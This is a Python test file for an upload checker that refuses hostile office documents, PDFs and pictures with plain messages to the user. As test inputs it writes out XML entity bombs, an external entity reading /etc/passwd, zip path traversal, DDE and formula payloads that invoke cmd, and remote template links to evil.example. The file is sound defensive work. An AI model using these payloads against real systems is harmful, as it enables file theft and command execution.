"""What a file really is and why it is refused: good files, and hostile ones built here."""

from io import BytesIO
from zipfile import ZipFile

import pikepdf
import pytest

from grants.documents.checks import EICAR, OLD_OFFICE, Looked, look
from grants.documents.states import Kind
from tests.paths import SHARED_DATA, needs_shared_data
from tests.unit.documents import files as f

MB = 1024 * 1024
ADVERSARIAL = SHARED_DATA / "9_adversarial"


def looked(name: str, content: bytes, *kinds: Kind, largest: int = 10 * MB) -> Looked:
    return look(name, content, kinds=kinds or tuple(Kind), largest=largest)


def said(name: str, content: bytes, *kinds: Kind, largest: int = 10 * MB) -> list[str]:
    return [fault.said() for fault in looked(name, content, *kinds, largest=largest).faults]


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("a.pdf", f.pdf(), Kind.PDF),
        ("A.PDF", f.pdf(f.links_to_a_page), Kind.PDF),
        ("a.docx", f.docx(), Kind.DOCX),
        ("a.xlsx", f.xlsx(), Kind.XLSX),
        ("a.odt", f.odt(), Kind.ODT),
        ("a.jpg", f.jpeg(), Kind.JPEG),
        ("a.jpeg", f.jpeg(20_000, 6_000), Kind.JPEG),
        ("a.png", f.png(), Kind.PNG),
        ("link.docx", f.with_parts(f.relation("hyperlink", "https://example.org")), Kind.DOCX),
        ("chart.docx", f.with_parts({"word/embeddings/Sheet1.xlsx": f.xlsx()}), Kind.DOCX),
        ("other-book.xlsx", f.xlsx({"xl/externalLinks/externalLink1.xml": "<externalLink/>"}), Kind.XLSX),
    ],
)
def test_good_files_are_taken_for_what_they_are(name: str, content: bytes, kind: Kind) -> None:
    assert looked(name, content) == Looked(kind)


def test_a_pdf_that_only_forbids_printing_is_taken() -> None:
    locked = f.pdf(encryption=pikepdf.Encryption(owner="bank", user=""))

    assert looked("statement.pdf", locked) == Looked(Kind.PDF)


def truncated(content: bytes) -> bytes:
    return content[: len(content) // 2]


def encrypted_zip() -> bytes:
    """A document whose parts say that they are encrypted."""
    content = bytearray(f.docx())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.find(mark)
        while start >= 0:
            content[start + at] |= 1
            start = content.find(mark, start + 4)
    return bytes(content)


def twice() -> bytes:
    """Two parts of the same name, of which readers may each take another."""
    made = BytesIO(f.docx())
    with ZipFile(made, "a") as container, pytest.warns(UserWarning, match="Duplicate"):
        container.writestr("word/document.xml", "<x/>")
    return made.getvalue()


BILLION = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><a>&c;</a>'
OUTSIDE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'

DTD = "“x.docx” contains declarations that no document needs (a DTD or entities). Save it again."
BOMB = "“x.docx” unpacks to far more than a document needs, so it was not opened."
PATHS = "“x.docx” holds parts with names that no document has. Save it again."
MACROS = "“x.docx” contains macros, which are small programs. Save it without macros, or as a PDF."
BROKEN = "“x.docx” is damaged and cannot be opened. Save it again."
INSIDE = "“x.docx” has other files inside. Send them one by one, or save this one as a PDF."
EICAR_TOLD = "“x.docx” contains the test virus EICAR, so it was not kept."


def loads(what: str) -> str:
    return f"“x.docx” loads something from outside when it is opened: {what}. Save it as a PDF."


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (f.with_parts({"word/document.xml": BILLION}), DTD),
        (f.with_parts({"word/document.xml": OUTSIDE}), DTD),
        (f.with_parts({"word/document.xml": BILLION.encode("utf-16")}), DTD),
        (f.with_parts({"word/styles.xml": "<a><b></a>"}), BROKEN),
        (truncated(f.docx()) + b"PK\x05\x06" + b"\0" * 18, None),
        (f.with_parts({"word/media/zeros.bin": b"\0" * (30 * MB)}), BOMB),
        (f.with_parts({f"word/media/{n}.bin": b"" for n in range(3_000)}), BOMB),
        (f.with_parts({"../../etc/passwd": b"x"}), PATHS),
        (f.with_parts({"/etc/passwd": b"x"}), PATHS),
        (f.with_parts({"C:\\windows\\x": b"x"}), PATHS),
        (f.with_parts({"Word/Document.xml": b"<x/>"}), PATHS),
        (twice(), PATHS),
        (encrypted_zip(), "“x.docx” is damaged or protected by a password. Save it again, without one."),
        (f.with_parts({"word/vbaProject.bin": b"\0"}), MACROS),
        (f.with_parts({"word/activeX/activeX1.bin": b"\0"}), MACROS),
        (
            f.with_parts(
                {"[Content_Types].xml": f.types("application/vnd.ms-word.document.macroEnabled.main+xml")}
            ),
            MACROS,
        ),
        (f.with_parts({"word/embeddings/oleObject1.bin": OLD_OFFICE}), INSIDE),
        (f.with_parts({"word/embeddings/setup.bin": b"MZ\x90"}), INSIDE),
        (f.with_parts({"word/embeddings/a.xlsx": f.xlsx({"xl/embeddings/b.xlsx": f.xlsx()})}), INSIDE),
        (f.with_parts({"word/media/archive.zip": f.zipped({"a": "b"})}), INSIDE),
        (f.with_parts({"word/embeddings/a.xlsx": f.xlsx({"xl/vbaProject.bin": b"x"})}), MACROS),
        (f.with_parts(f.relation("attachedTemplate", "https://evil.example/a.dotm")), loads("a template")),
        (
            f.with_parts(f.relation("image", "https://evil.example/a.png")),
            loads("a file or picture from elsewhere"),
        ),
        (f.with_parts(f.relation("oleObject", "file:///a.doc")), loads("a file or picture from elsewhere")),
        (f.with_parts(f.field("DDEAUTO c:\\\\windows\\\\cmd.exe")), loads("data from another program (DDE)")),
        (f.with_parts(f.field(" D", "DE", "AUTO cmd")), loads("data from another program (DDE)")),
        (
            f.with_parts(f.field('INCLUDEPICTURE "https://evil.example/a.png"')),
            loads("a file or picture from elsewhere"),
        ),
        (f.with_parts({"word/media/a.txt": EICAR}), EICAR_TOLD),
    ],
)
def test_hostile_documents_are_refused_in_plain_words(content: bytes, told: str | None) -> None:
    found = said("x.docx", content)

    assert len(found) == 1
    assert told is None or found == [told]


@pytest.mark.parametrize(
    "formula", ["cmd|'/c calc'!A0", "=cmd|'/c calc'!A0", "+MSEXCEL|'\\..\\..\\x.exe'!''", "-DDE|a!b"]
)
def test_a_formula_that_asks_another_program_is_refused(formula: str) -> None:
    sheet = f"<worksheet><sheetData><c><f>{formula}</f></c></sheetData></worksheet>"

    assert said("x.xlsx", f.xlsx({"xl/worksheets/sheet1.xml": sheet})) == [
        "“x.xlsx” loads something from outside when it is opened: data from another program (DDE). "
        "Save it as a PDF."
    ]


@pytest.mark.parametrize(
    ("more", "told"),
    [
        ({"Basic/Standard/Module1.xml": "<x/>"}, "“x.odt” contains macros"),
        ({"Scripts/python/a.py": "x"}, "“x.odt” contains macros"),
        ({"content.xml": '<a xmlns:script="s"><script:event-listener/></a>'}, "“x.odt” contains macros"),
        (
            {"META-INF/manifest.xml": '<m xmlns:m="m"><m:encryption-data/></m>'},
            "“x.odt” is protected by a password",
        ),
        (
            {
                "content.xml": '<a xmlns:draw="d" xmlns:xlink="x"><draw:image xlink:href="https://e.example/a.png"/></a>'
            },
            "“x.odt” loads something from outside",
        ),
        (
            {"content.xml": '<a xmlns:text="t"><text:dde-connection-decl/></a>'},
            "“x.odt” loads something from outside",
        ),
    ],
)
def test_hostile_open_documents_are_refused(more: f.Parts, told: str) -> None:
    (found,) = said("x.odt", f.odt(more))

    assert found.startswith(told)


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (f.pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "“x.pdf” is protected by a password."),
        (b"%PDF-1.7\nnonsense", "“x.pdf” is a damaged PDF."),
        (f.pdf(lambda opened: opened.pages.__delitem__(0)), "“x.pdf” is a PDF without pages."),
        (f.pdf(f.javascript), "“x.pdf” contains a program (JavaScript) or starts one."),
        (f.pdf(f.launches), "“x.pdf” contains a program (JavaScript) or starts one."),
        (f.pdf(f.holds_a_file), "“x.pdf” has other files inside."),
        (f.pdf(f.is_a_form), "“x.pdf” is a form that only some programs can show."),
        (
            f.pdf(f.javascript, object_stream_mode=pikepdf.ObjectStreamMode.generate),
            "“x.pdf” contains a program",
        ),
        (f.pdf() + EICAR, "“x.pdf” contains the test virus EICAR"),
    ],
)
def test_hostile_pdfs_are_refused(content: bytes, told: str) -> None:
    (found,) = said("x.pdf", content)

    assert found.startswith(told)


@pytest.mark.parametrize(
    ("name", "content", "told"),
    [
        ("x.png", f.png(100_000, 1), "“x.png” says that it is 100000 by 1 pixels"),
        ("x.png", f.png(15_000, 15_000), "“x.png” says that it is 15000 by 15000 pixels"),
        ("x.png", f.png(0, 5), "“x.png” is a damaged picture"),
        ("x.png", truncated(f.png()), "“x.png” is a damaged picture"),
        ("x.png", b"\x89PNG\r\n\x1a\n", "“x.png” is a damaged picture"),
        ("x.jpg", f.jpeg(65_000, 2), "“x.jpg” says that it is 65000 by 2 pixels"),
        ("x.jpg", f.jpeg(0, 2), "“x.jpg” is a damaged picture"),
        ("x.jpg", f.jpeg()[:-2], "“x.jpg” is a damaged picture"),
        ("x.jpg", b"\xff\xd8\xff\xe0\x00\x00", "“x.jpg” is a damaged picture"),
    ],
)
def test_absurd_and_broken_pictures_are_refused(name: str, content: bytes, told: str) -> None:
    (found,) = said(name, content)

    assert found.startswith(told)


NO_KIND = "is not a file of a kind we can take, whatever its name says"


def by_content(name: str, kind: str, ending: str) -> str:
    return (
        f"By its content “{name}” is of the kind “{kind}”, so its name should end in .{ending}. "
        "Rename it, or save it again."
    )


@pytest.mark.parametrize(
    ("name", "content", "told"),
    [
        ("x.pdf", b"", "“x.pdf” is empty. Check that you chose the right file."),
        ("x.exe", b"MZ" + b"\0" * 600, f"“x.exe” {NO_KIND}: it looks like .exe."),
        ("x.pdf", b"MZ" + b"\0" * 600, f"“x.pdf” {NO_KIND}: it looks like .exe."),
        (
            "x.html",
            b"<script>alert(1)</script>",
            "“x.html” is not a file of a kind we can take, or it is damaged. "
            "Save it again, as a PDF if you can.",
        ),
        (
            "x.doc",
            OLD_OFFICE + b"\0" * 600,
            "“x.doc” is from an old version of Office, or protected by a password. "
            "Save it as .docx, .xlsx or PDF without a password.",
        ),
        ("x.docx", f.pdf(), by_content("x.docx", "PDF", "pdf")),
        ("x", f.png(), by_content("x", "PNG picture", "png")),
        ("x.pdf.exe", f.pdf(), by_content("x.pdf.exe", "PDF", "pdf")),
        ("x.docm", f.docx(), by_content("x.docm", "Word document", "docx")),
    ],
)
def test_names_and_contents_must_agree(name: str, content: bytes, told: str) -> None:
    assert said(name, content) == [told]


def test_a_file_is_held_to_the_limit_to_the_byte() -> None:
    content = f.pdf().ljust(MB, b" ")

    assert said("x.pdf", content, largest=MB) == []
    assert said("x.pdf", content + b" ", largest=MB) == [
        "“x.pdf” is larger than 1 MB. Make it smaller, for example by saving it as a PDF."
    ]


def test_a_kind_that_is_not_asked_for_is_named() -> None:
    assert said("x.xlsx", f.xlsx(), Kind.PDF, Kind.PNG) == [
        "“x.xlsx” is a file of the kind “Excel workbook”. Choose one of a kind that is taken here."
    ]


def test_any_other_zip_is_no_document() -> None:
    assert said("x.docx", f.zipped({"a.txt": "a"})) == [
        "“x.docx” is not a file of a kind we can take, whatever its name says: it looks like .zip."
    ]


@needs_shared_data
@pytest.mark.parametrize(
    ("path", "told"),
    [
        ("pdf/hello-world.pdf", []),
        ("pdf/invalid_creationdate.pdf", []),
        ("pdf/cyclic-toc.pdf", []),
        ("pdf/encrypted-file.pdf", ["“encrypted-file.pdf” is protected by a password. Save it without one."]),
    ],
)
def test_the_shared_adversarial_pdfs(path: str, told: list[str]) -> None:
    assert said(path.rpartition("/")[2], (ADVERSARIAL / path).read_bytes()) == told


@needs_shared_data
@pytest.mark.parametrize("name", ["quadratic.xml", "external.xml", "dtd.xml"])
def test_the_shared_hostile_xml_alone_and_inside_a_document(name: str) -> None:
    content = (ADVERSARIAL / "xml" / name).read_bytes()

    assert len(said(name, content)) == 1
    assert said("x.docx", f.with_parts({"word/document.xml": content})) == [DTD]


@needs_shared_data
@pytest.mark.parametrize("name", ["naughty_strings.json", "csv_formula_injection.json"])
def test_the_shared_text_files_are_no_documents(name: str) -> None:
    assert len(said(name, (ADVERSARIAL / name).read_bytes())) == 1
